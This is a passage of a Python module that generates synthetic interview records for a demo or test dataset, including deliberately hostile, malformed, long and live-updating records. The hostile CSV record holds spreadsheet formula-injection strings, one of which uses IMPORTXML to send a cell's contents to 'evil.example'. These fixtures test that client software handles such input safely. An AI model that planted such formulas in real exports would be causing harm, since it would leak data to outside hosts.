    csv.questions.extend(extra)
    csv.total_questions = len(csv.questions)
    csv.estimated_duration += 180
    end = csv.completed or 0.0
    csv.answers.append(_Answer(TRAVERSAL_QUESTION_ID, "@SUM(A1)", 12, end + 60))
    csv.answers.append(_Answer(WINDOWS_TRAVERSAL_QUESTION_ID, "-2+3", 9, end + 120))
    csv.completed = end + 150
    _with_transcripts(csv, {
        0: '=HYPERLINK("http://x","y")',
        1: "+1",
        2: "@SUM(A1)",
        3: '"Quoted, with commas", and a\nnewline\r\nand CRLF; \t=1+1 after a tab',
        4: "-1+2",
        5: "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    })
    return [markup, terminal, csv]


def _long_record() -> _Record:
    rec = _completed_special("long", "data", "Eleanor Vance", "eleanor.vance@example.com", "data",
                             "2025-05-18T09:30:00Z")
    rng = random.Random("rztui-demo:long-transcript")
    _with_transcripts(rec, {0: _long_transcript(rng, "data", 100_000)})
    a = rec.answers[0]
    rec.answers[0] = _Answer(a.question_id, a.transcript, 5400, a.at)  # over time limit: real
    return rec


def _odd_records() -> tuple[_Record, _Record, _Record]:
    missing = _completed_special("missing-fields", "ops", "Sam", None, "ops",
                                 "2025-05-10T07:00:00Z")
    missing.audio = "absent"

    nulls = _completed_special("null-fields", "cs", "Jordan Lee", None, "cs",
                               "2025-05-11T07:00:00Z")
    nulls.job["department"] = None
    nulls.candidate["email"] = None
    nulls.audio = "null"
    nulls.answers[-1] = _Answer(nulls.answers[-1].question_id, "", None, nulls.answers[-1].at)

    unknown = _completed_special("under-review", "design", "Taylor Brooks",
                                 "taylor.brooks@example.com", "design", "2025-05-12T07:00:00Z")
    unknown.status = "under_review"  # not a documented status: clients must cope
    return missing, nulls, unknown


# (label, job, name, email, bank, start, seconds between answers): LIVE_END_SECONDS is the max
# completion time, ~2.5 minutes at speed 1 and ~15 s at speed 10.
_LIVE_SCRIPTS = (
    ("live-1", "frontend", "Ava Thompson", "ava.thompson@example.com", "frontend", 8.0, 20.0),
    ("live-2", "backend", "Ben Carter", "ben.carter@example.com", "backend", 25.0, 19.0),
    ("live-3", "data", "Chiara Bianchi", "chiara.bianchi@example.it", "data", 50.0, 22.0),
)
LIVE_EXPIRES_AT = 70.0  # dataset seconds at which LIVE_EXPIRING_ID flips to expired


def _live_records() -> list[_Record]:
    out: list[_Record] = []
    for label, job_key, name, email, bank, start, step in _LIVE_SCRIPTS:
        rng = random.Random(f"rztui-demo:{label}")
        job = JOBS[job_key]
        qs = [dict(q) for q in job.questions[:4]]
        answers = [_Answer(q["id"], _transcript(rng, bank), rng.randint(40, 170),
                           start + step * (i + 1)) for i, q in enumerate(qs)]
        out.append(_Record(
            id=uuidish(f"interview:{label}", nonhex=label == "live-2"), status="completed",
            job=job.full(), candidate=_candidate(label, name, email, nonhex=False),
            questions=qs, total_questions=len(qs),
            estimated_duration=sum(q["time_limit_seconds"] for q in qs), answers=answers,
            created=-2 * _HOUR, expires=-2 * _HOUR + 7 * _DAY, relative=True,
            live=_Live(start=start, complete=answers[-1].at + step / 2),
        ))
    job = JOBS["cs"]
    out.append(_Record(
        id=uuidish("interview:live-expiring"), status="expired", job=job.full(),
        candidate=_candidate("live-expiring", "Diego Morales", "diego.morales@example.com",
                             nonhex=True),
        questions=[dict(q) for q in job.questions], total_questions=len(job.questions),
        estimated_duration=sum(q["time_limit_seconds"] for q in job.questions),
        relative=True, live=_Live(expire=LIVE_EXPIRES_AT),
    ))
    return out


def _build() -> dict[str, _Record]:
    recs: list[_Record] = [_spec_record()]
    recs.extend(_ordinary(i, *row) for i, row in enumerate(_PEOPLE))
    recs.extend(_hostile_records())
    recs.append(_long_record())
    recs.extend(_odd_records())
    recs.extend(_live_records())
    by_id = {r.id: r for r in recs}
    assert len(by_id) == len(recs), "duplicate demo interview id"
    return by_id


_BASE: dict[str, _Record] = _build()

# --------------------------------------------------------------------------------------------
# Bulk interviews (benchmarks): ids are cheap, records are rendered on demand
# --------------------------------------------------------------------------------------------

_BULK_RE = re.compile(r"bulk-(\d{6,})-([0-9a-f]{8})")
_BULK_JOBS = ("frontend", "backend", "data", "design", "cs")
_FIRST = ("Alex", "Sam", "Jordan", "Taylor", "Morgan", "Casey", "Riley", "Jamie", "Avery",
          "Quinn", "Rowan", "Sasha", "Kai", "Noor", "Lena", "Omar", "Mei", "Tariq", "Ines", "Ola")
_LAST = ("Smith", "Garcia", "Kowalski", "Okoye", "Tanaka", "Silva", "Novak", "Haddad", "Ivanova",
         "Larsen", "Moreau", "Rossi", "Patel", "Nguyen", "Schmidt", "Cohen", "Kaur", "Jensen")


def _bulk_tag(seed: int, index: int) -> str:
    return hashlib.sha256(f"bulk:{seed}:{index}".encode()).hexdigest()[:8]


def make_bulk(n: int, seed: int = 0) -> list[str]:
    """Ids of ``n`` synthetic completed interviews (``bulk-000123-1a2b3c4d``); cheap for 10k."""
    return [f"bulk-{i:06d}-{_bulk_tag(seed, i)}" for i in range(n)]


@lru_cache(maxsize=4096)
def _bulk_record(seed: int, index: int) -> _Record:
    rng = random.Random(f"bulk:{seed}:{index}")
    job_key = _BULK_JOBS[index % len(_BULK_JOBS)]
    job = JOBS[job_key]
    qs = [dict(q) for q in job.questions[: rng.randint(3, 4)]]
    first, last = rng.choice(_FIRST), rng.choice(_LAST)
    iid = f"bulk-{index:06d}-{_bulk_tag(seed, index)}"
    created = _ts("2024-09-01T08:00:00Z") + index * 1800.0
    started = created + rng.randint(3600, 3 * 86400)
    answers: list[_Answer] = []
    t = started
    for q in qs:
        text = _transcript(rng, job_key, rng.choice(("short", "medium")))
        duration = rng.randint(20, q["time_limit_seconds"])
        t += duration + rng.randint(10, 40)
        answers.append(_Answer(q["id"], text, duration, t))
    return _Record(
        id=iid, status="completed", job=job.full(),
        candidate={"id": uuidish(f"bulk-cand:{seed}:{index}"), "name": f"{first} {last}",
                   "email": f"{first.lower()}.{last.lower()}.{index}@example.com"},
        questions=qs, total_questions=len(qs),
        estimated_duration=sum(q["time_limit_seconds"] for q in qs),
        answers=answers, created=created, started=started, completed=t + 30,
    )


# --------------------------------------------------------------------------------------------
# Public API
# --------------------------------------------------------------------------------------------


class Dataset:
    """The base interviews plus ``extra_completed`` bulk ones generated from ``seed``."""

    def __init__(self, *, extra_completed: int = 0, seed: int = 0) -> None:
        self.extra_completed = max(0, int(extra_completed))
        self.seed = seed
        self.bulk_ids: list[str] = make_bulk(self.extra_completed, seed)
        self.ids: list[str] = ALL_IDS + self.bulk_ids

    def _record(self, interview_id: str) -> _Record | None:
        rec = _BASE.get(interview_id)
        if rec is not None:
            return rec
        m = _BULK_RE.fullmatch(interview_id)
        if m is None:
            return None
        index = int(m.group(1))
        # Exact form only: the zero padding and the tag must match what make_bulk produced.
        if index >= self.extra_completed or interview_id != self.bulk_ids[index]:
            return None
        return _bulk_record(self.seed, index)

    def __contains__(self, interview_id: object) -> bool:
        return isinstance(interview_id, str) and self._record(interview_id) is not None

    def __len__(self) -> int:
        return len(self.ids)

    def snapshot(self, interview_id: str, elapsed_seconds: float = 0.0, *,
                 epoch: float = DEFAULT_EPOCH, speed: float = 1.0,
                 audio_url: AudioUrlFn | None = None) -> Json | None:
        """The interview JSON as served after ``elapsed_seconds`` of dataset time, or None."""
        rec = self._record(interview_id)
        if rec is None:
            return None
        return _render(rec, elapsed_seconds, epoch, speed, audio_url)

    def status_at(self, interview_id: str, elapsed_seconds: float = 0.0) -> str | None:
        rec = self._record(interview_id)
        return None if rec is None else _status_at(rec, elapsed_seconds)

    def questions_payload(self, interview_id: str) -> Json | None:
        rec = self._record(interview_id)
        return None if rec is None else _questions_payload(rec)


def _ids_where(pred: Callable[[_Record], bool]) -> list[str]:
    return [r.id for r in _BASE.values() if pred(r)]


ALL_IDS: list[str] = list(_BASE)
HOSTILE_IDS: list[str] = [uuidish(f"interview:hostile-{k}", nonhex=True)
                          for k in ("markup", "terminal", "csv")]
HOSTILE_MARKUP_ID, HOSTILE_TERMINAL_ID, HOSTILE_CSV_ID = HOSTILE_IDS
LONG_ID = uuidish("interview:long", nonhex=True)
MISSING_FIELDS_ID = uuidish("interview:missing-fields", nonhex=True)
NULL_FIELDS_ID = uuidish("interview:null-fields", nonhex=True)
UNKNOWN_STATUS_ID = uuidish("interview:under-review", nonhex=True)
LIVE_IDS: list[str] = _ids_where(lambda r: r.live is not None and r.live.expire is None)
LIVE_EXPIRING_ID: str = _ids_where(lambda r: r.live is not None and r.live.expire is not None)[0]
LIVE_END_SECONDS: float = max(r.live.complete for r in _BASE.values()
                              if r.live is not None and r.live.expire is None)
NON_LATIN_IDS: list[str] = [uuidish(f"interview:{label}", nonhex=i % 3 == 0)
                            for i, (label, *_rest, bank) in enumerate(_PEOPLE)
                            if bank in ("ja", "ar", "ru", "emoji")]
# Short ASCII descriptions of the notable interviews (safe to print anywhere).
LABELS: dict[str, str] = {
    SPEC_INTERVIEW_ID: "spec example",
    HOSTILE_MARKUP_ID: "hostile: Rich markup",
    HOSTILE_TERMINAL_ID: "hostile: terminal escapes",
    HOSTILE_CSV_ID: "hostile: CSV formulas, traversal question ids",
    LONG_ID: "long transcript (100k+ chars)",
    MISSING_FIELDS_ID: "optional fields absent",
    NULL_FIELDS_ID: "optional fields null",
    UNKNOWN_STATUS_ID: "undocumented status",
    LIVE_EXPIRING_ID: "live: expires",
    **{i: "live: will complete" for i in LIVE_IDS},
    **{i: "non-Latin text" for i in NON_LATIN_IDS},
}
# Status of each interview at elapsed 0 (the live ones all start as "invited").
INITIAL_STATUS: dict[str, str] = {i: _status_at(r, 0.0) for i, r in _BASE.items()}

_DEFAULT = Dataset()


def snapshot(interview_id: str, elapsed_seconds: float = 0.0, *, epoch: float = DEFAULT_EPOCH,
             speed: float = 1.0, audio_url: AudioUrlFn | None = None) -> Json | None:
    """Base-dataset interview JSON at ``elapsed_seconds`` (see ``Dataset.snapshot``)."""
    return _DEFAULT.snapshot(interview_id, elapsed_seconds, epoch=epoch, speed=speed,
                             audio_url=audio_url)


def questions_payload(interview_id: str) -> Json | None:
    """The /questions body for a base-dataset interview, or None if unknown."""
    return _DEFAULT.questions_payload(interview_id)


def status_at(interview_id: str, elapsed_seconds: float = 0.0) -> str | None:
    return _DEFAULT.status_at(interview_id, elapsed_seconds)
